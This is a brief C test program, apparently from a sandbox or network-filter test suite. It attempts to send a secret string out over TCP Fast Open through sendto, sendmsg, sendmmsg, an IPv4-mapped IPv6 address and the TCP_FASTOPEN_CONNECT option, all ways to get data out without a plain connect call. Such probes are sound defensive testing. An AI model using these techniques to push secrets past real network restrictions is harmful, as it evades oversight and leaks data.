// TCP without connect: fast_open ADDRESS PORT SECRET
#include "attack.h"

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  struct sockaddr_in to = Ipv4(argv[1], atoi(argv[2]));
  struct sockaddr_in6 to6 = Ipv6("::ffff:127.0.0.1", atoi(argv[2]));
  char text[200];
  snprintf(text, sizeof text, "[sendto %s]", argv[3]);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  Result("sendto", sendto(fd, text, strlen(text), MSG_FASTOPEN, (struct sockaddr*)&to, sizeof to));
  close(fd);

  fd = socket(AF_INET, SOCK_STREAM, 0);
  snprintf(text, sizeof text, "[sendmsg %s]", argv[3]);
  struct iovec data = {text, strlen(text)};
  struct mmsghdr message;
  memset(&message, 0, sizeof message);
  message.msg_hdr.msg_name = &to;
  message.msg_hdr.msg_namelen = sizeof to;
  message.msg_hdr.msg_iov = &data;
  message.msg_hdr.msg_iovlen = 1;
  Result("sendmsg", sendmsg(fd, &message.msg_hdr, MSG_FASTOPEN));
  close(fd);

  fd = socket(AF_INET, SOCK_STREAM, 0);
  snprintf(text, sizeof text, "[sendmmsg %s]", argv[3]);
  data.iov_len = strlen(text);
  Result("sendmmsg", sendmmsg(fd, &message, 1, MSG_FASTOPEN));
  close(fd);

  fd = socket(AF_INET6, SOCK_STREAM, 0);
  snprintf(text, sizeof text, "[sendto6 %s]", argv[3]);
  Result("sendto6",
         sendto(fd, text, strlen(text), MSG_FASTOPEN, (struct sockaddr*)&to6, sizeof to6));
  close(fd);

  fd = socket(AF_INET, SOCK_STREAM, 0);
  int on = 1;
  Result("option", setsockopt(fd, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof on));
  Result("connect", connect(fd, (struct sockaddr*)&to, sizeof to));
  snprintf(text, sizeof text, "[option %s]", argv[3]);
  Result("write", write(fd, text, strlen(text)));
  close(fd);
  Done();
  return 0;
}
